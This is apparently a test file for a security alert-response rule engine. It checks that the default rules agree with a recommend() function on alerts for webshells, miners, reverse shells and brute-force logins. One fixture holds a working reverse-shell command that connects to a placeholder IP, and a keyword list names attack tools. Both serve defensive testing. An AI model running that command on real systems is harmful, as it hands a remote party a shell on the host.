import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Alert, toAlert } from '../../../src/alerts/alert.js';
import { recommend } from '../../../src/alerts/recommend.js';
import { sampleAlerts } from '../../../src/emulator/index.js';
import type { SuspEvent } from '../../../src/generated/index.js';
import { DEFAULT_RESPONSE_RULES } from '../../../src/rules/default-rules.js';
import { ResponseRules } from '../../../src/rules/response-rules.js';

const rules = ResponseRules.parse(DEFAULT_RESPONSE_RULES);
let nextId = 1;
const alert = (event: Omit<SuspEvent, 'Id'>) => toAlert({ Id: nextId++, ...event });

/** What the default rule set decides, in recommend()'s terms. */
function decided(subject: Alert) {
  const { rule, action } = rules.evaluate(subject, { now: 0 });
  if (action === undefined || !('handle' in action)) throw new Error('the default set always handles');
  return { operation: action.handle.operation, reason: action.handle.reason, rule: rule?.id };
}

/** The events of recommend's own tests. */
const RECOMMEND_CASES: Omit<SuspEvent, 'Id'>[] = [
  { AlarmEventType: 'Webshell', AlarmEventName: 'webshell_php', SupportOperateCode: 'AI.false_positive' },
  { AlarmEventType: 'Webshell', SupportOperateCode: 'AI.real_attack' },
  { AlarmEventType: 'Unusual Logon', AlarmEventName: 'login_common_location' },
  { AlarmEventType: '异常登录' },
  { AlarmEventName: 'ssh_brute_force' },
  { AlarmEventType: 'Webshell', AlarmEventName: 'webshell_php' },
  { AlarmEventType: 'Persistent webshell' },
  { AlarmEventTypeDisplay: '网站后门(本地查杀)' },
  { AlarmEventType: 'Others', AlarmEventName: 'malicious_file_found' },
  { AlarmEventNameDisplay: '恶意文件' },
  { AlarmEventType: 'Malicious process', AlarmEventName: 'malicious_process_miner' },
  { AlarmEventType: 'Malicious process (cloud threat detection)' },
  { AlarmEventType: '恶意进程(本地查杀)' },
  { AlarmEventNameDisplay: 'Mining program' },
  { AlarmEventName: 'linux_trojan' },
  { AlarmEventNameDisplay: '挖矿程序' },
  { AlarmEventNameDisplay: 'Determiner check' },
  {
    AlarmEventType: 'Suspicious process',
    AlarmEventName: 'suspicious_binary',
    Details: [{ NameDisplay: 'File MD5', Value: 'd41d8cd98f00b204e9800998ecf8427e' }],
  },
  {
    AlarmEventType: 'Suspicious process',
    AlarmEventName: 'suspicious_binary',
    Details: [{ NameDisplay: 'Process path', Value: '/tmp/.x/run' }],
  },
  {
    AlarmEventType: 'Suspicious process',
    AlarmEventName: 'reverse_shell',
    Details: [{ NameDisplay: 'Command line', Value: 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1' }],
  },
  { AlarmEventNameDisplay: '反弹Shell' },
  { AlarmEventType: 'Suspicious network connection' },
  { AlarmEventName: 'outbound_port_scan' },
  { AlarmEventType: '恶意网络行为' },
  { AlarmEventType: 'Suspicious account', AlarmEventName: 'new_privileged_account' },
  { AlarmEventType: '异常账号' },
  { AlarmEventType: 'Sensitive file tampering', AlarmEventName: 'crontab_modified' },
  { AlarmEventType: '敏感文件篡改' },
  { AlarmEventType: 'Precise defense', AlarmEventName: 'defense_hit' },
  {},
  // RE2 folds case by Unicode: with ignoreCase, [^a-z] would not match "ſ" (long s, folded to "s").
  { AlarmEventName: 'ſmining' },
];

/** Pieces of alert types and names that the rules' patterns look for, and near misses. */
const FRAGMENTS = [
  'Unusual Logon',
  'unusual login',
  '异常登录',
  'login_',
  'LOGIN_x',
  'brute force',
  'brute-force',
  'bruteforce',
  '暴力破解',
  '异地登录',
  'webshell',
  'WebShell',
  '网站后门',
  '持久化后门',
  'malicious file',
  'Malicious_File',
  'virus file',
  '恶意文件',
  '病毒文件',
  'malicious process',
  '恶意进程',
  'malicious script',
  '恶意脚本',
  'mining',
  'Miner',
  'determiner',
  'xminer',
  'miner2',
  '_miner_',
  'crypto-min',
  'trojan',
  'virus',
  '挖矿',
  '木马',
  '病毒',
  'suspicious process',
  '进程异常行为',
  'reverse shell',
  'Reverse_Shell',
  '反弹 shell',
  '反弹Shell',
  'suspicious network',
  '异常网络连接',
  'malicious network',
  '恶意网络行为',
  'port scan',
  'portscan',
  '端口扫描',
  'suspicious account',
  '异常账号',
  'account',
  '账号',
  'sensitive file tamper',
  '敏感文件篡改',
  'tamper',
  '篡改',
  'Precise defense',
  ' ',
  '-',
  '_',
  'x',
  'İ',
  'ſ',
  'K',
];
const DETAIL_NAMES = [
  'File MD5',
  'file path',
  'Profile',
  'MD5',
  '文件路径',
  'Process path',
  'Command line',
  'files',
];

const text = fc.option(
  fc.array(fc.constantFrom(...FRAGMENTS), { maxLength: 3 }).map((parts) => parts.join('')),
  { nil: undefined },
);
const event = fc.record(
  {
    AlarmEventType: text,
    AlarmEventTypeDisplay: text,
    AlarmEventName: text,
    AlarmEventNameDisplay: text,
    Name: text,
    SupportOperateCode: fc.constantFrom('AI.false_positive', 'AI.real_attack', ''),
    Details: fc.array(fc.record({ NameDisplay: fc.constantFrom(...DETAIL_NAMES), Value: fc.constant('v') }), {
      maxLength: 2,
    }),
  },
  { requiredKeys: [] },
);

describe('DEFAULT_RESPONSE_RULES', () => {
  it('is plain data that survives JSON and parses', () => {
    const copy = JSON.parse(JSON.stringify(DEFAULT_RESPONSE_RULES));
    expect(copy).toEqual(DEFAULT_RESPONSE_RULES);
    expect(ResponseRules.parse(JSON.stringify(copy)).rules.map((rule) => rule.id)).toEqual(
      rules.rules.map((rule) => rule.id),
    );
  });

  it("decides as recommend() does for every case of recommend's tests", () => {
    for (const item of RECOMMEND_CASES) {
      const subject = alert(item);
      expect(decided(subject), JSON.stringify(item)).toEqual(recommend(subject));
    }
  });

  it("decides as recommend() does for 5,000 of the emulator's sample alerts", () => {
    const events = [...sampleAlerts(2500, 'rules'), ...sampleAlerts(2500, 'rules', { fields: 'core' })];
    const seen = new Set<string>();
    for (const item of events) {
      const subject = toAlert(item as SuspEvent);
      const expected = recommend(subject);
      seen.add(expected.rule);
      expect(decided(subject)).toEqual(expected);
    }
    expect(seen.size).toBeGreaterThan(3);
  });

  it('decides as recommend() does for generated alerts built from the patterns', () => {
    fc.assert(
      fc.property(event, (item) => {
        const subject = alert(item);
        expect(decided(subject)).toEqual(recommend(subject));
      }),
      { numRuns: 3000 },
    );
  });

  it('blocks for 7 days where recommend() says block_ip', () => {
    const { action } = rules.evaluate(alert({ AlarmEventName: 'ssh_brute_force' }), { now: 0 });
    expect(action).toEqual({
      handle: { operation: 'block_ip', input: { duration: '7d' }, reason: 'Unusual login behavior detected' },
    });
  });
});
